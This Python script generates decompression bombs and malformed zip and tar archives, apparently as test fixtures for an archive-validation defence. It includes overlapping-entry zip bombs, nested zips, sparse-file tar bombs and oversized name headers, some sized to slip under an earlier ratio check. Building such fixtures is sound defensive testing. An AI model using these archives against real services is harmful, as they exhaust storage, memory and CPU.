"""Build hostile archives (decompression bombs and malformed headers) from code, each a few KiB on disk.

Every builder returns the archive's bytes; nothing here decompresses or extracts what it builds. The layouts
follow the format documents, written byte by byte where ``tarfile``/``zipfile`` cannot write them:

- zip: PKWARE APPNOTE.TXT 6.3.10 — local file header (4.3.7), central directory header (4.3.12), end of
  central directory (4.3.16); deflate stored blocks per RFC 1951 3.2.4 (used to "quote" a following local
  header, the overlapping construction of D. Fifield, "A better zip bomb", WOOT 2019); LZMA entries per 5.8.8
  (2-byte version, 2-byte properties size, LZMA1 properties ``lc/lp/pb`` byte + dictionary size).
- tar: POSIX ustar header (IEEE 1003.1 ``pax`` rationale), GNU extensions from the GNU tar manual ("Basic Tar
  Format" and "Sparse Formats"): the ``L``/``K`` long-name records, the old GNU sparse header ``S`` (4 map
  entries at offset 386, ``isextended`` at 482, real size at 483, extension blocks of 21 entries), and the pax
  sparse formats 0.0 (``GNU.sparse.offset``/``numbytes`` records), 0.1 (``GNU.sparse.map``) and 1.0 (the map
  as decimal lines at the start of the member's data, ``GNU.sparse.major=1``/``minor=0``).

Usage: ``python scripts/make_archive_bombs.py OUTDIR`` writes every bomb of :data:`BOMBS` there.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zlib
from pathlib import Path

MiB = 1 << 20
GiB = 1 << 30
UNDER_FLOOR = 16 * MiB - 1  # just under the 16 MiB below which the old per-entry ratio check never ran

# ------------------------------------------------------------------------------------------------ CRC-32

def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of ``A + B`` from ``crc(A)``, ``crc(B)`` and ``len(B)``: CRC-32 is linear over GF(2), so appending
    ``len2`` zero bytes is a 32x32 bit-matrix power applied to ``crc1`` (the method zlib's crc32_combine uses)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_zeros(n: int) -> int:
    """CRC-32 of ``n`` zero bytes without materialising them."""
    block = 1 << 20
    whole, rest = divmod(n, block)
    c_block = zlib.crc32(bytes(block))
    crc = 0
    acc_crc, acc_len = c_block, block  # CRC of 2**j blocks, doubled by combining it with itself
    k = whole
    while k:
        if k & 1:
            crc = crc32_combine(crc, acc_crc, acc_len)
        acc_crc = crc32_combine(acc_crc, acc_crc, acc_len)
        acc_len *= 2
        k >>= 1
    return crc32_combine(crc, zlib.crc32(bytes(rest)), rest)


# ------------------------------------------------------------------------------------------------ zip

STORED, DEFLATED, BZIP2, LZMA = 0, 8, 12, 14


def _compress(method: int, size: int) -> bytes:
    """``size`` zero bytes compressed with a zip method (raw deflate, bzip2 stream, or zip's LZMA framing)."""
    zeros = bytes(size)
    if method == DEFLATED:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(zeros) + c.flush()
    if method == BZIP2:
        return bz2.compress(zeros, 9)
    if method == LZMA:
        lc, lp, pb, dict_size = 3, 0, 2, 1 << 20
        props = bytes([(pb * 5 + lp) * 9 + lc]) + struct.pack("<I", dict_size)
        filt = {"id": lzma.FILTER_LZMA1, "lc": lc, "lp": lp, "pb": pb, "dict_size": dict_size}
        body = lzma.compress(zeros, format=lzma.FORMAT_RAW, filters=[filt])
        return struct.pack("<BBH", 9, 20, len(props)) + props + body
    if method == STORED:
        return zeros
    raise ValueError(method)


def local_header(name: bytes, method: int, crc: int, csize: int, usize: int, extra: bytes = b"",
                 flags: int = 0) -> bytes:
    if method == LZMA:
        flags |= 0x02  # end-of-stream marker present
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 63 if method == LZMA else 20, flags, method, 0, 0x21, crc,
                       csize, usize, len(name), len(extra)) + name + extra


def central_header(name: bytes, method: int, crc: int, csize: int, usize: int, offset: int, flags: int = 0,
                   external_attr: int = 0o100644 << 16) -> bytes:
    if method == LZMA:
        flags |= 0x02
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 63 if method == LZMA else 20, flags, method, 0,
                       0x21, crc, csize, usize, len(name), 0, 0, 0, 0, external_attr, offset) + name


def end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)


def build_zip(entries: list[tuple[bytes, int, int, int, bytes]]) -> bytes:
    """entries: (name, method, crc, uncompressed size, compressed data), laid out one after another."""
    body, cd = bytearray(), bytearray()
    for name, method, crc, usize, data in entries:
        off = len(body)
        body += local_header(name, method, crc, len(data), usize) + data
        cd += central_header(name, method, crc, len(data), usize, off)
    return bytes(body + cd + end_record(len(entries), len(cd), len(body)))


def zip_of_zeros(count: int, size: int = UNDER_FLOOR, method: int = DEFLATED, prefix: str = "part") -> bytes:
    """``count`` distinct entries, each ``size`` zero bytes (just under the old 16 MiB ratio floor)."""
    data = _compress(method, size)
    crc = crc32_zeros(size)
    return build_zip([(f"{prefix}-{i:05d}.bin".encode(), method, crc, size, data) for i in range(count)])


def zip_lying_size(declared: int, actual: int) -> bytes:
    """One deflate entry whose central directory says ``declared`` bytes while the stream inflates to ``actual``."""
    data = _compress(DEFLATED, actual)
    crc = crc32_zeros(min(declared, actual))  # what a reader that stops at the declared size would check
    return build_zip([(b"weights.bin", DEFLATED, crc, declared, data)])


def zip_full_overlap(count: int, size: int = 64 * MiB) -> bytes:
    """``count`` central-directory entries, same name, all pointing at one local header and its deflate data."""
    name = b"weights.bin"
    data = _compress(DEFLATED, size)
    crc = crc32_zeros(size)
    body = local_header(name, DEFLATED, crc, len(data), size) + data
    one = central_header(name, DEFLATED, crc, len(data), size, 0)
    cd = one * count
    return body + cd + end_record(count, len(cd), len(body))


def zip_quoted_overlap(count: int, kernel_size: int = 64 * MiB) -> bytes:
    """Fifield's overlapping construction: entry ``i``'s deflate data quotes local header ``i+1`` in a stored
    block and then runs on through every later entry into one shared kernel, so entry ``i`` inflates to
    ``count - i - 1`` headers plus the whole kernel; the central directory lists every entry."""
    names = [f"f{i:05d}".encode() for i in range(count)]
    kernel = _compress(DEFLATED, kernel_size)
    kcrc = crc32_zeros(kernel_size)
    usize = [0] * count
    crc = [0] * count
    headers: list[bytes] = [b""] * count
    # Sizes first (they do not depend on CRCs): header i = 30 + len(name); quote block = 5 bytes.
    hlen = [30 + len(n) for n in names]
    csize = [0] * count
    csize[count - 1] = len(kernel)
    usize[count - 1] = kernel_size
    for i in range(count - 2, -1, -1):
        csize[i] = 5 + hlen[i + 1] + csize[i + 1]
        usize[i] = hlen[i + 1] + usize[i + 1]
    # Then CRCs from the last entry backwards: out_i = header_{i+1} + out_{i+1}.
    crc[count - 1] = kcrc
    headers[count - 1] = local_header(names[count - 1], DEFLATED, kcrc, csize[count - 1], usize[count - 1])
    for i in range(count - 2, -1, -1):
        h = headers[i + 1]
        crc[i] = crc32_combine(zlib.crc32(h), crc[i + 1], usize[i + 1])
        headers[i] = local_header(names[i], DEFLATED, crc[i], csize[i], usize[i])
    body, offsets = bytearray(), []
    for i in range(count):
        offsets.append(len(body))
        body += headers[i]
        if i + 1 < count:
            n = len(headers[i + 1])
            body += b"\x00" + struct.pack("<HH", n, n ^ 0xFFFF)  # stored, non-final block of n bytes
    body += kernel
    cd = b"".join(central_header(names[i], DEFLATED, crc[i], csize[i], usize[i], offsets[i]) for i in range(count))
    return bytes(body) + cd + end_record(count, len(cd), len(body))


def zip_partial_overlap(spill: int = 10) -> bytes:
    """Two entries; the first one's compressed size runs ``spill`` bytes into the second one's local header."""
    a = _compress(DEFLATED, MiB)
    b = _compress(DEFLATED, 1000)
    ha = local_header(b"a.bin", DEFLATED, crc32_zeros(MiB), len(a) + spill, MiB)
    hb = local_header(b"b.bin", DEFLATED, crc32_zeros(1000), len(b), 1000)
    body = ha + a + hb + b
    cd = (central_header(b"a.bin", DEFLATED, crc32_zeros(MiB), len(a) + spill, MiB, 0)
          + central_header(b"b.bin", DEFLATED, crc32_zeros(1000), len(b), 1000, len(ha) + len(a)))
    return body + cd + end_record(2, len(cd), len(body))


def zip_overlap_via_local_extra() -> bytes:
    """The overlap shows only in a local header: the first (stored) entry's local extra field, absent from the
    central directory, moves its data 64 bytes on, so its last 40 bytes are the second entry's local header."""
    b = _compress(DEFLATED, 1000)
    hb = local_header(b"b.bin", DEFLATED, crc32_zeros(1000), len(b), 1000)
    tail = hb + b
    content = b"weights " * 125 + tail[:40]  # a's stored bytes end with the start of b's header
    extra = b"\xfe\xca" + struct.pack("<H", 60) + bytes(60)  # a 64-byte private extra block
    ha = local_header(b"a.bin", STORED, zlib.crc32(content), len(content), len(content), extra=extra)
    body = ha + content + tail[40:]
    b_off = len(ha) + len(content) - 40
    cd = (central_header(b"a.bin", STORED, zlib.crc32(content), len(content), len(content), 0)
          + central_header(b"b.bin", DEFLATED, crc32_zeros(1000), len(b), 1000, b_off))
    return body + cd + end_record(2, len(cd), len(body))


def zip_into_central_directory() -> bytes:
    """One entry whose compressed size claims the central directory that follows it."""
    a = _compress(DEFLATED, MiB)
    h = local_header(b"a.bin", DEFLATED, crc32_zeros(MiB), len(a) + 40, MiB)
    body = h + a
    cd = central_header(b"a.bin", DEFLATED, crc32_zeros(MiB), len(a) + 40, MiB, 0)
    return body + cd + end_record(1, len(cd), len(body))


def stored_zip(members: dict[str, bytes]) -> bytes:
    """A plain zip of stored members (the container for nested bombs)."""
    return build_zip([(n.encode(), STORED, zlib.crc32(d), len(d), d) for n, d in members.items()])


def deflated_zip(members: dict[str, bytes]) -> bytes:
    """A zip of deflated members."""
    out = []
    for n, d in members.items():
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        out.append((n.encode(), DEFLATED, zlib.crc32(d), len(d), c.compress(d) + c.flush()))
    return build_zip(out)


def zip_in_zip_in_zip(count: int = 700) -> bytes:
    """A deflated outer zip (~25 KB) holding a stored zip holding a zip bomb of ``count`` entries of just under
    16 MiB of zeros (about 11 MB of deflate streams). The outer zip's entry inflates to those 11 MB, under the
    16 MiB ratio floor; the second level, opened by inspection, doubles that, which only a budget shared with the
    outer file refuses. The third level is one more member for inspection: never inflated."""
    return deflated_zip({"outer.zip": stored_zip({"model_algo-1": zip_of_zeros(count)})})


# ------------------------------------------------------------------------------------------------ tar

def _num(n: int, width: int) -> bytes:
    """A tar numeric field: octal digits and NUL, or GNU base-256 (high bit set) when octal does not fit."""
    if n < 8 ** (width - 1):
        return b"%0*o" % (width - 1, n) + b"\0"
    return bytes([0x80]) + n.to_bytes(width - 1, "big")


def tar_header(name: bytes, size: int, typeflag: bytes = b"0", *, gnu: bool = False,
               fields: dict[int, bytes] | None = None) -> bytes:
    """One 512-byte header block with a valid checksum (ustar, or the GNU magic ``ustar  \\0``)."""
    b = bytearray(512)
    b[0:min(len(name), 100)] = name[:100]
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = _num(size, 12)
    b[136:148] = _num(0o14000000000, 12)
    b[156:157] = typeflag
    b[257:265] = b"ustar  \0" if gnu else b"ustar\x0000"
    for off, val in (fields or {}).items():
        b[off:off + len(val)] = val
    b[148:156] = b" " * 8
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)


def _pad(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def pax_records(items: list[tuple[str, str]]) -> bytes:
    out = b""
    for k, v in items:
        body = f" {k}={v}\n".encode()
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n = len(str(n)) + len(body)
        out += str(n).encode() + body
    return out


def pax_member(records: bytes, header: bytes, data: bytes = b"", typeflag: bytes = b"x") -> bytes:
    return tar_header(b"././@PaxHeader", len(records), typeflag) + _pad(records) + header + _pad(data)


def end_of_tar() -> bytes:
    return bytes(1024)


def gz(data: bytes) -> bytes:
    return gzip.compress(data, 9, mtime=0)


def sparse_old_gnu(real: int = 10 * GiB, extension_blocks: int = 0) -> bytes:
    """Old GNU sparse member ('S'). Without extension blocks: one 512-byte data chunk at the end of ``real``
    bytes of holes. With them: a map of one-byte chunks at every even offset, 4 in the header and 21 per block."""
    if not extension_blocks:
        fields = {386: _num(real - 512, 12) + _num(512, 12), 483: _num(real, 12)}
        return tar_header(b"model.bin", 512, b"S", gnu=True, fields=fields) + bytes(512) + end_of_tar()
    chunks = 4 + 21 * extension_blocks
    fields = {386: b"".join(_num(2 * j, 12) + _num(1, 12) for j in range(4)), 482: b"\x01", 483: _num(real, 12)}
    out = tar_header(b"model.bin", chunks, b"S", gnu=True, fields=fields)
    for i in range(extension_blocks):
        block = bytearray(512)
        for j in range(21):
            k = 4 + i * 21 + j
            block[j * 24:(j + 1) * 24] = _num(2 * k, 12) + _num(1, 12)
        block[504] = 1 if i + 1 < extension_blocks else 0
        out += bytes(block)
    return out + _pad(b"x" * chunks) + end_of_tar()


def sparse_pax_00(real: int = 10 * GiB) -> bytes:
    rec = pax_records([("GNU.sparse.size", str(real)), ("GNU.sparse.numblocks", "1"),
                       ("GNU.sparse.offset", str(real - 512)), ("GNU.sparse.numbytes", "512")])
    return pax_member(rec, tar_header(b"model.bin", 512), bytes(512)) + end_of_tar()


def sparse_pax_01(real: int = 10 * GiB) -> bytes:
    rec = pax_records([("GNU.sparse.size", str(real)), ("GNU.sparse.numblocks", "1"),
                       ("GNU.sparse.map", f"{real - 512},512")])
    return pax_member(rec, tar_header(b"model.bin", 512), bytes(512)) + end_of_tar()


def sparse_pax_10(real: int = 10 * GiB, map_lines: int = 0) -> bytes:
    """pax sparse 1.0; ``map_lines`` > 0 writes a map that claims that many chunks (each line ``0``)."""
    rec = pax_records([("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "model.bin"),
                       ("GNU.sparse.realsize", str(real))])
    if map_lines:
        sparse_map = _pad(f"{map_lines}\n".encode() + b"0\n" * (2 * map_lines))
    else:
        sparse_map = _pad(f"1\n{real - 512}\n512\n".encode())
    data = sparse_map + bytes(512)
    return pax_member(rec, tar_header(b"GNUSparseFile.0/model.bin", len(data)), data) + end_of_tar()


def _tar_with(infos: list[tuple[tarfile.TarInfo, bytes | None]], fmt: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for ti, data in infos:
            tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def _file(name: str, data: bytes = b"{}") -> tuple[tarfile.TarInfo, bytes]:
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    return ti, data


def long_name_gnu(length: int = 7 * MiB) -> bytes:
    """A GNU 'L' long-name record of ``length`` bytes before one small member."""
    return _tar_with([_file("a" * length)], tarfile.GNU_FORMAT)


def long_deep_name_gnu(length: int = 7 * MiB) -> bytes:
    """A GNU 'L' record of ``length`` bytes naming a folder path ``a/a/a/...`` millions of levels deep."""
    return _tar_with([_file("a/" * (length // 2) + "x")], tarfile.GNU_FORMAT)


def long_link_gnu(length: int = 7 * MiB) -> bytes:
    ti = tarfile.TarInfo("link")
    ti.type = tarfile.SYMTYPE
    ti.linkname = "b" * length
    return _tar_with([(ti, None)], tarfile.GNU_FORMAT)


def long_name_pax(length: int) -> bytes:
    """A pax ``path`` record of ``length`` bytes."""
    return long_name_pax_path("p" * length)


def long_name_pax_path(path: str) -> bytes:
    return _tar_with([_file(path)], tarfile.PAX_FORMAT)


def long_name_chain(count: int = 100, each: int = 60_000) -> bytes:
    """``count`` GNU 'L' records in a row (each under any per-record cap), then one member."""
    out = b""
    for i in range(count):
        name = (b"%06d" % i) + b"c" * (each - 6)
        out += tar_header(b"././@LongLink", len(name) + 1, b"L", gnu=True) + _pad(name + b"\0")
    return out + tar_header(b"x", 2, gnu=True) + _pad(b"{}") + end_of_tar()


def pax_global_chain(count: int = 5000) -> bytes:
    """``count`` small global pax headers ('g') in a row, then one member."""
    rec = pax_records([("comment", "x")])
    one = tar_header(b"pax_global_header", len(rec), b"g") + _pad(rec)
    return one * count + tar_header(b"x", 2) + _pad(b"{}") + end_of_tar()


def many_long_names(count: int = 17_000, length: int = 4000) -> bytes:
    """``count`` empty members whose pax paths are ``length`` bytes each, names that together take more than
    64 MiB; each starts with 32 pseudo-random hex digits so the archive compresses well under 250:1."""
    import hashlib

    names = []
    for i in range(count):
        tag = hashlib.sha256(b"%d" % i).hexdigest()[:32]
        names.append(tag + "n" * (length - 32))
    return _tar_with([_file(n, b"") for n in names], tarfile.PAX_FORMAT)


def zip_long_name(length: int = 65_000) -> bytes:
    return build_zip([(b"z" * length, STORED, zlib.crc32(b"{}"), 2, b"{}")])


def tar_of(members: dict[str, bytes]) -> bytes:
    return _tar_with([_file(n, d) for n, d in members.items()], tarfile.GNU_FORMAT)


# ------------------------------------------------------------------------------------------------ catalogue

def nested_zip_bomb(count: int = 200) -> bytes:
    """The nested zip: ``count`` entries of just under 16 MiB of zeros each (3.2 GiB from about 3 MB)."""
    return zip_of_zeros(count)


BOMBS = {
    # nested archives
    "nested-zip-in-tar.tar.gz": lambda: gz(tar_of({"model_algo-1": nested_zip_bomb()})),
    "nested-zip-in-plain-tar.tar": lambda: tar_of({"model_algo-1": nested_zip_bomb(40)}),
    "nested-bzip2-zip-in-tar.tar.gz": lambda: gz(tar_of({"model_algo-1": zip_of_zeros(200, method=BZIP2)})),
    "zip-in-zip.zip": lambda: stored_zip({"model_algo-1": nested_zip_bomb()}),
    "zip-in-zip-in-zip.zip": lambda: zip_in_zip_in_zip(),
    "nested-overlap-in-tar.tar.gz":
        lambda: gz(tar_of({"model_algo-1": zip_quoted_overlap(250, UNDER_FLOOR - 250 * 36)})),
    "nested-full-overlap-in-tar.tar.gz": lambda: gz(tar_of({"model_algo-1": zip_full_overlap(1000, UNDER_FLOOR)})),
    # long names / big headers
    "long-name-gnu.tar.gz": lambda: gz(long_name_gnu()),
    "long-deep-name-gnu.tar.gz": lambda: gz(long_deep_name_gnu()),
    "long-deep-name-pax-under-cap.tar.gz": lambda: gz(long_name_pax_path("a/" * 450_000 + "x")),
    "long-link-gnu.tar.gz": lambda: gz(long_link_gnu()),
    "long-name-pax.tar.gz": lambda: gz(long_name_pax(3 * MiB)),
    "long-name-pax-under-cap.tar.gz": lambda: gz(long_name_pax(900_000)),
    "long-name-chain.tar.gz": lambda: gz(long_name_chain()),
    "pax-global-chain.tar.gz": lambda: gz(pax_global_chain()),
    "many-long-names.tar.gz": lambda: gz(many_long_names()),
    "long-name.zip": lambda: zip_long_name(),
    # sparse members
    "sparse-old-gnu.tar.gz": lambda: gz(sparse_old_gnu()),
    "sparse-old-gnu-extended.tar.gz": lambda: gz(sparse_old_gnu(GiB, extension_blocks=7000)),
    "sparse-old-gnu-huge-map.tar.gz": lambda: gz(sparse_old_gnu(GiB, extension_blocks=10_000)),
    "sparse-pax-0.0.tar.gz": lambda: gz(sparse_pax_00()),
    "sparse-pax-0.1.tar.gz": lambda: gz(sparse_pax_01()),
    "sparse-pax-1.0.tar.gz": lambda: gz(sparse_pax_10()),
    "sparse-pax-1.0-long-map.tar.gz": lambda: gz(sparse_pax_10(GiB, map_lines=2_000_000)),
    "sparse-old-gnu.tar.xz": lambda: lzma.compress(sparse_old_gnu()),
    # zip entries under the old ratio floor
    "small-entries-deflate.zip": lambda: zip_of_zeros(200),
    "small-entries-bzip2.zip": lambda: zip_of_zeros(200, method=BZIP2),
    "small-entries-lzma.zip": lambda: zip_of_zeros(60, method=LZMA),
    "lying-size.zip": lambda: zip_lying_size(1000, 200 * MiB),
    # overlapping zip entries
    "overlap-full.zip": lambda: zip_full_overlap(1000, UNDER_FLOOR),
    "overlap-quoted.zip": lambda: zip_quoted_overlap(1000, UNDER_FLOOR - 1000 * 36),
    "overlap-partial.zip": lambda: zip_partial_overlap(),
    "overlap-local-extra.zip": lambda: zip_overlap_via_local_extra(),
    "overlap-central-directory.zip": lambda: zip_into_central_directory(),
}


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: make_archive_bombs.py OUTDIR", file=sys.stderr)
        return 2
    out = Path(argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, build in BOMBS.items():
        data = build()
        (out / name).write_bytes(data)
        print(f"{name}\t{len(data)}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
